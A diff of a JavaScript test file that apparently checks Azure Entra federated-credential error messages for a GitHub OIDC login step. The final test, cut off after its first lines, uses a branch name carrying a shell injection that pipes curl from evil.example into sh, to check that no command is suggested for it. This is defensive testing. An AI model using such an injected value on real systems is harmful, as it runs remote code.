@@ -6,30 +6,33 @@ const { azure, step } = await openScenario();
 test.each([
   ['AADSTS700213', false],
   ['AADSTS70021', true],
-])("shows the ID token's claims and the command that adds them (%s)", async (code, olderWording) => {
-  azure.identity.olderWording = olderWording;
-  azure.identity.idTokenClaims = { sub: 'repo:octo/churn:environment:prod' };
-  const { error } = await step();
+])(
+  "the error shows the ID token's claims and the command that adds them (%s)",
+  async (code, olderWording) => {
+    azure.identity.olderWording = olderWording;
+    azure.identity.idTokenClaims = { sub: 'repo:octo/churn:environment:prod' };
+    const { error } = await step();
 
-  expect(error).toContain(
-    `Entra refused the sign-in of application '${azure.clientId}' (${code}): no federated credential matches the ID token that was presented.`,
-  );
-  expect(error).toContain("\n  subject: 'repo:octo/churn:environment:prod'\n");
-  expect(error).toContain(`\n  issuer: '${azure.oidc.issuer}'\n`);
-  expect(error).toContain("\n  audience: 'api://AzureADTokenExchange'\n");
-  const parameters = JSON.stringify({
-    name: 'github-environment-prod',
-    issuer: azure.oidc.issuer,
-    subject: 'repo:octo/churn:environment:prod',
-    audiences: ['api://AzureADTokenExchange'],
-  });
-  expect(error).toContain(
-    `\n  az ad app federated-credential create --id ${azure.clientId} --parameters '${parameters}'\n`,
-  );
-  expect(error).toContain("The job names the environment 'prod'");
-});
+    expect(error).toContain(
+      `Entra refused the sign-in of application '${azure.clientId}' (${code}): no federated credential matches the ID token that was presented.`,
+    );
+    expect(error).toContain("\n  subject: 'repo:octo/churn:environment:prod'\n");
+    expect(error).toContain(`\n  issuer: '${azure.oidc.issuer}'\n`);
+    expect(error).toContain("\n  audience: 'api://AzureADTokenExchange'\n");
+    const parameters = JSON.stringify({
+      name: 'github-environment-prod',
+      issuer: azure.oidc.issuer,
+      subject: 'repo:octo/churn:environment:prod',
+      audiences: ['api://AzureADTokenExchange'],
+    });
+    expect(error).toContain(
+      `\n  az ad app federated-credential create --id ${azure.clientId} --parameters '${parameters}'\n`,
+    );
+    expect(error).toContain("The job names the environment 'prod'");
+  },
+);
 
-test('offers no command for a branch whose name a shell would read', async () => {
+test('the error offers no command for a branch whose name a shell would read', async () => {
   azure.identity.idTokenClaims = { sub: "repo:octo/churn:ref:refs/heads/x';curl evil.example|sh;'" };
   const { error } = await step();
 
